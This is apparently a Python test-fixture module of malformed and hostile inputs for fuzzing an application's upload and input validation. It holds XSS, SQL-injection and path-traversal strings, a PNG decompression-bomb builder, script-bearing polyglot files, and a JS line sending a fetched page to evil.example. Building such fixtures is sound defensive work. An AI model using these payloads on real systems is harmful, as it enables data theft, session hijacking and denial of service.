"""Malformed and hostile values, shared by the fuzzing tests (deterministic: no randomness)."""

import io
import struct
import zlib

from PIL import Image

HUGE = "长" * 20_000 + "x" * 20_000
SCRIPT = "<script>alert('rg')</script>"
STRINGS = [
    "",  # empty
    " ",  # blank
    "\x00",  # NUL (PostgreSQL refuses it in text)
    "a\x00b",
    HUGE,
    "☃️🚧 路灯 \u202e\u200b ẞ ﷺ",  # emoji, RTL override, zero-width space, wide glyphs
    "\udcff".encode("utf-8", "surrogatepass").decode("latin-1"),  # mojibake of a lone surrogate
    "é".encode().decode("latin-1"),  # UTF-8 read as Latin-1 ("Ã©")
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "null",
    "-1",
    "-99999999999999999999999",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "-Infinity",
    "0x1F",
    "true",
    "[]",
    "{}",
    "2026-02-30",
    "9999-12-31T25:61:61",
]
NUMBERS = [
    "-1",
    "0",
    "-0",
    "2147483648",
    "-9223372036854775809",
    "1.5",
    "1e400",
    "NaN",
    "abc",
    "",
    "\x00",
    "１２３",
]  # full-width digits
JSON_VALUES = [
    None,
    -1,
    0,
    1.5,
    10**30,
    -(10**30),
    True,
    "",
    "x" * 5000,
    "\x00",
    SCRIPT,
    [],
    [None],
    {},
    {"a": {"b": [1]}},
]


def jpeg(size=(64, 48), color=(200, 30, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG")
    return out.getvalue()


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A valid PNG header announcing width×height pixels with a tiny compressed body: it expands
    to gigabytes if anything decodes it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    row = b"\x00" + b"\x00" * width
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(200)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def polyglot_jpeg_html() -> bytes:
    """A real JPEG with an HTML/JS payload appended (browsers sniffing it would run the script)."""
    return jpeg() + b"<html><script>alert(document.cookie)</script></html>"


def polyglot_jpeg_zip() -> bytes:
    """A JPEG followed by a ZIP archive (a "GIFAR"-style polyglot)."""
    archive = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("evil.sh", "#!/bin/sh\necho owned\n")
    return jpeg() + archive.getvalue()


SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"
HTML = b"<!doctype html><script>alert(1)</script>"


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, "GIF")
    return out.getvalue()


def tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, "TIFF")
    return out.getvalue()


# --- Documents for the attachment allow-list (core.uploads.attachment_clean) ----------------------


def _zip(members: list[tuple[str, bytes]], *, stored_first=False) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(members):
            info = zipfile.ZipInfo(name)
            info.compress_type = (
                zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            )
            archive.writestr(info, data)
    return out.getvalue()


OOXML_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
    "docm": ("word/document.xml", "ms-word.document.macroEnabled.main+xml"),
}


def ooxml(kind: str) -> bytes:
    """A minimal Office Open XML package (.docx, .pptx; .docm: macro-enabled)."""
    part, content_type = OOXML_MAIN[kind]
    prefix = (
        "application/vnd." if kind == "docm" else "application/vnd.openxmlformats-officedocument."
    )
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/{part}" ContentType="{prefix}{content_type}"/>'
        "</Types>"
    )
    members = [("[Content_Types].xml", types.encode()), ("_rels/.rels", b"<Relationships/>")]
    members.append((part, b"<document/>"))
    if kind == "docm":
        members.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))
    return _zip(members)


def xlsx() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def odf(kind: str) -> bytes:
    """A minimal OpenDocument file (.odt or .ods): `mimetype` first and uncompressed."""
    mimetype = {"odt": "text", "ods": "spreadsheet"}[kind]
    return _zip(
        [
            ("mimetype", f"application/vnd.oasis.opendocument.{mimetype}".encode()),
            ("content.xml", b"<office:document-content/>"),
            ("META-INF/manifest.xml", b"<manifest/>"),
        ],
        stored_first=True,
    )


def ole(streams: list[str], storages: tuple[str, ...] = ()) -> bytes:
    """A minimal OLE2 compound file (the container of .doc and .xls) holding 4 KB streams and
    empty storages: header, one FAT sector, one directory sector, then the streams' sectors."""
    sector = 512
    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    entries = [("Root Entry", 5)] + [(n, 2) for n in streams] + [(n, 1) for n in storages]
    assert len(entries) <= 4
    data_sectors = 8 * len(streams)  # 4096 bytes each: regular sectors, no mini stream
    fat = [fat_sector, end]
    for index in range(len(streams)):
        first = 2 + 8 * index
        fat += list(range(first + 1, first + 8)) + [end]
    fat += [free] * (sector // 4 - len(fat))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    directory = b""
    for index, (name, kind) in enumerate(entries):
        encoded = name.encode("utf-16-le") + b"\0\0"
        child = 1 if index == 0 and len(entries) > 1 else no_stream
        right = index + 1 if 0 < index < len(entries) - 1 else no_stream
        start, size = (2 + 8 * (index - 1), 4096) if kind == 2 else (end, 0)
        directory += (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", no_stream, right, child)
            + b"\0" * 16
            + b"\0" * 4
            + b"\0" * 16
            + struct.pack("<IIi", start, size, 0)
        )
    directory = directory.ljust(sector, b"\0")
    body = b"".join(b"\x01" * 4096 for _ in streams)
    assert len(body) == data_sectors * sector
    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + body


def doc() -> bytes:
    return ole(["WordDocument"])


def xls() -> bytes:
    return ole(["Workbook"])


JS = b"fetch('/branches/members/').then(r => r.text()).then(t => fetch('//evil.example/?' + t))"


def polyglot_gif_html() -> bytes:
    """A GIF header followed by HTML (sniffed as HTML by old browsers, a GIF by libraries)."""
    return b"GIF89a/*\x00\x00" + b"*/=1;<html><script>alert(document.cookie)</script></html>"


def polyglot_pdf_html() -> bytes:
    """A structurally acceptable PDF that also carries a web page."""
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"


def html_then_docx() -> bytes:
    """A web page with a .docx appended (ZIP readers find the archive at the end)."""
    return HTML + ooxml("docx")


def jpeg_with_metadata() -> bytes:
    """A JPEG carrying every kind of metadata: EXIF with GPS, XMP, an ICC profile and a COM
    comment segment."""
    from PIL import ImageCms

    image = Image.new("RGB", (64, 48), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    exif[0x8825] = {1: "N", 2: (22.0, 45.0, 36.0), 3: "E", 4: (113.0, 55.0, 48.0)}  # GPS
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(
        out,
        "JPEG",
        exif=exif,
        icc_profile=icc,
        comment=b"secret home address 13912345678",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPS 22.76,113.93</x:xmpmeta>',
    )
    return out.getvalue()


def jpeg_markers(data: bytes) -> list[int]:
    """The marker bytes of a JPEG's segments before its image data (0xE0 = APP0 … 0xFE = COM)."""
    assert data[:2] == b"\xff\xd8"
    markers, at = [], 2
    while at < len(data):
        assert data[at] == 0xFF, at
        marker = data[at + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            break
        (length,) = struct.unpack(">H", data[at + 2 : at + 4])
        at += 2 + length
    return markers
